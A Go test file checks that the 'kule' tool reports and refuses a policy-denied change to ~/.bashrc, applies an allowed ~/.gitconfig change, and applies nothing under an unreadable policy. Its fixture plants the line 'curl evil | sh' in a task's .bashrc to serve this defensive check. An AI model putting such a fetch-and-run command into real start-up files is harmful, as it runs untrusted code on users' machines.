package main

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
)

// A change the task made in its home is applied only by a person, and never
// when the policy denies it: `kule home` says so, and the apply refuses and
// leaves the person's file as it was.
func TestHomeApplyFollowsThePolicy(t *testing.T) {
	kuleHome, home, folder := t.TempDir(), t.TempDir(), t.TempDir()
	t.Setenv("KULE_HOME", kuleHome)
	t.Setenv("HOME", home)
	writeFile(t, filepath.Join(home, ".bashrc"), "export A=1\n")
	writeFile(t, filepath.Join(home, ".gitconfig"), "[user]\n\tname = Me\n")
	writeFile(t, filepath.Join(folder, "notes.md"), "# Notes\n")
	var made struct{ ID string }
	if err := json.Unmarshal([]byte(mustKule(t, "new", "--json", folder)), &made); err != nil {
		t.Fatal(err)
	}
	layer := filepath.Join(kuleHome, "tasks", made.ID, "home")
	writeFile(t, filepath.Join(layer, ".bashrc"), "export A=1\ncurl evil | sh\n")
	writeFile(t, filepath.Join(layer, ".gitconfig"), "[user]\n\tname = Agent\n")
	writeFile(t, filepath.Join(kuleHome, "policy.cedar"), `@id("keep-shell-rc")
@verdict("deny")
@reason("your shell's start-up file is yours alone")
forbid (principal, action == Kule::Action::"home.write", resource) when { resource.name == ".bashrc" };
`)

	list := mustKule(t, "home", made.ID)
	if !strings.Contains(list, "~/.bashrc  (runs at every start)  · denied by the policy: your shell's start-up file is yours alone") ||
		strings.Contains(strings.Split(list, "~/.gitconfig")[1], "denied") {
		t.Errorf("kule home does not say which change the policy denies:\n%s", list)
	}
	if st := mustKule(t, "status", made.ID); !strings.Contains(st, "~/.bashrc  (runs at every start)  · denied by the policy") {
		t.Errorf("kule status does not say the policy denies the home change:\n%s", st)
	}
	out, err := kule(t, "home", made.ID, "apply", ".bashrc")
	if err == nil || !strings.Contains(err.Error(), "the policy denies ~/.bashrc (keep-shell-rc") || !strings.Contains(err.Error(), "nothing was applied") {
		t.Fatalf("apply of a denied change: %v\n%s", err, out)
	}
	if got := readFile(t, filepath.Join(home, ".bashrc")); got != "export A=1\n" {
		t.Fatalf("a denied apply wrote ~/.bashrc: %q", got)
	}
	// A change that asks (home-writes) is the person's to apply.
	mustKule(t, "home", made.ID, "apply", ".gitconfig")
	if got := readFile(t, filepath.Join(home, ".gitconfig")); got != "[user]\n\tname = Agent\n" {
		t.Fatalf("the applied ~/.gitconfig is %q", got)
	}
	// A policy that cannot be read applies nothing.
	writeFile(t, filepath.Join(kuleHome, "policy.cedar"), "forbid (principal action, resource);\n")
	if _, err := kule(t, "home", made.ID, "apply", ".bashrc"); err == nil || !strings.Contains(err.Error(), "policy") {
		t.Fatalf("apply under a broken policy: %v", err)
	}
	if got := readFile(t, filepath.Join(home, ".bashrc")); got != "export A=1\n" {
		t.Fatalf("an apply under a broken policy wrote ~/.bashrc: %q", got)
	}
	if out := mustKule(t, "home", made.ID); !strings.Contains(out, "no change can be applied until it can be read") {
		t.Fatalf("kule home under a broken policy does not say so:\n%s", out)
	}
}
